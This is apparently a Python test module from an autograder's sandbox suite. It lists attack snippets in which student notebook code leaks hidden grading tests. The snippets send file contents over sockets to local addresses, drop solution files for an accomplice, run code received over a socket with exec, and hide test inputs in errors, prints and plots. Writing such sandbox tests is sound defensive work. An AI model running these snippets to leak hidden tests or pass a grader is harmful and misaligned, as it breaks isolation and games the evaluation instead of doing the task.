"""Carries away what a hidden test gave it: over the network, to an accomplice, into what the student gets back."""

from tests.attacks.attack import Attack, returning
from tests.attacks.course import SENTINEL

STASH = "seen = []\ndef keep(*a, **k):\n    seen.append((a, k))\n"
KEEPING = returning("keep(args)")
SEND = """
import socket
def send(text):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for address in ("127.0.0.1", "10.0.2.2", "localhost"):
            try:
                with socket.socket(socket.AF_INET, kind) as way:
                    way.settimeout(0.3)
                    way.connect((address, @PORT@))
                    way.sendall(text.encode())
            except OSError as error:
                print(error)
    try:
        with socket.socket(socket.AF_UNIX) as way:
            way.connect("\\0attack-@PORT@")
            way.sendall(text.encode())
    except OSError as error:
        print(error)
"""
READ_OWN = """
import glob
for path in glob.glob("*.ipynb") + ["@COURSE@/source/ps00/ps00.ipynb"]:
    try:
        send("leak " + open(path).read()[:100000])
    except OSError as error:
        print(error)
send("leak hello")
"""
OTHER_FAMILIES = """
import socket
for family, kind, protocol in (
    (socket.AF_NETLINK, socket.SOCK_RAW, 0), (socket.AF_PACKET, socket.SOCK_RAW, 3),
    (socket.AF_INET, socket.SOCK_RAW, 1),
    (socket.AF_INET6, socket.SOCK_STREAM, 0), (getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, 0),
):
    try:
        way = socket.socket(family, kind, protocol)
        print("got", family)
        if family == socket.AF_INET6:
            way.settimeout(0.3)
            way.connect(("::1", @PORT@))
            way.sendall(b"leak")
    except (OSError, ValueError) as error:
        print(error)
"""
NAMES = """
import socket, urllib.request
for name in ("wombat.example.com", "localhost"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError as error:
        print(error)
try:
    urllib.request.urlopen("http://127.0.0.1:@PORT@/leak", timeout=0.5)
except OSError as error:
    print(error)
"""
DROPS = """
import glob, os
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run", "@HOME@", "..", "../..", ".", os.path.expanduser("~"), "/work"]
def drop(text):
    for place in PLACES:
        try:
            with open(f"{place}/dropped-by-accomplice", "w") as file:
                file.write(text)
        except OSError:
            pass
    from multiprocessing import shared_memory
    try:
        shared_memory.SharedMemory("dropped", create=True, size=1000).buf[:4] = b"solv"
    except OSError as error:
        print(error)
def found():
    for place in PLACES:
        try:
            yield open(f"{place}/dropped-by-accomplice").read()
        except OSError:
            pass
"""
SOLUTION = 'drop("def double(x):\\n    return x + x\\nGIGABYTE = 10**9\\ndef squares(n):\\n    return [1, 4, 9]\\n")'
USE = "\nfor text in found():\n    exec(text, globals())"
SERVE = """
import os, socket, threading
def serve():
    with socket.socket(socket.AF_UNIX) as door:
        door.bind("\\0accomplice")
        door.listen()
        while True:
            visitor, _ = door.accept()
            visitor.sendall(b"GIGABYTE = 10**9")
threading.Thread(target=serve, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(30)
    os._exit(0)
"""
ASK = """
import socket
try:
    with socket.socket(socket.AF_UNIX) as way:
        way.settimeout(1)
        way.connect("\\0accomplice")
        exec(way.recv(1000).decode(), globals())
except OSError as error:
    print(error)
"""
SYSTEM_V = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
memory = libc.shmget(4242, 4096, 0o1666)
print(memory)
queue = libc.msgget(4242, 0o1666)
print(queue)
"""
ERROR_TEXT = {
    name: f"def {name}(*args, **more):\n    raise ValueError(repr(args))" for name in ("double", "mean", "relu")
}
SHOWN = """
class Shown:
    def __init__(self, *a): self.a = a
    def __repr__(self): return f"LEAK {self.a}"
    def _repr_html_(self): return f"LEAK {self.a}"
"""
TYPED = """
def typed(*a):
    kind = type("LEAK " + repr(a), (Exception,), {})
    raise kind()
"""
TITLES = "import sys\ndef titled(*a):\n    print('LEAK', a, file=sys.stderr)\n    print('LEAK', a)\n    return 0"

ATTACKS = [
    Attack("leak_network", "sends hidden tests over the network", first=SEND, last=READ_OWN, harmful=True),
    Attack(
        "leak_network_in_test",
        "sends what a test gives it over the network",
        first=SEND,
        answers={"double": "def double(x):\n    send(f'leak {x}')\n    return 0"},
        harmful=True,
    ),
    Attack("leak_other_sockets", "sends by other kinds of sockets", first=OTHER_FAMILIES, harmful=True),
    Attack("leak_names", "asks name servers and a web server", first=NAMES, harmful=True),
    Attack("leak_drop", "leaves solutions where an accomplice looks", first=DROPS + SOLUTION, harmful=True),
    Attack("leak_drop_used", "looks there", first=DROPS, each=USE, after="leak_drop"),
    Attack("leak_service", "leaves a process that answers an accomplice", first=SERVE, harmful=True),
    Attack("leak_service_used", "asks it", first="", each=ASK, after="leak_service"),
    Attack("leak_system_v", "leaves System V shared memory and queues", first=SYSTEM_V, harmful=True),
    Attack(
        "leak_output", "prints hidden inputs in a later cell", first=STASH, answers=KEEPING, last="print('LEAK', seen)"
    ),
    Attack("leak_prints", "prints hidden inputs while a test calls", first=TITLES, answers=returning("titled(args)")),
    Attack("leak_error", "raises errors whose text is the hidden input", answers=ERROR_TEXT),
    Attack(
        "leak_class_name",
        "raises errors whose class is named after it",
        first=TYPED,
        answers=returning("typed(args)", "double", "mean"),
    ),
    Attack(
        "leak_value",
        "gives back objects that show it",
        first=SHOWN,
        answers=returning("Shown(args)", "double", "mean", "primes"),
    ),
    Attack(
        "leak_figure",
        "draws hidden inputs",
        first=STASH,
        answers=KEEPING,
        last="import matplotlib.pyplot as plt\nplt.title(str(seen)[:500]); plt.show()\nseen",
    ),
    Attack(
        "leak_name_of_cell",
        "looks for the word that only hidden tests say, in all that can be read",
        last="import gc\nhits = [one for one in gc.get_objects() if type(one) is dict and any("
        f"isinstance(v, str) and {SENTINEL[:3]!r} + {SENTINEL[3:]!r} in v for v in list(one.values())[:50])]\n"
        "print('LEAK' if hits else '', len(hits))",
    ),
]
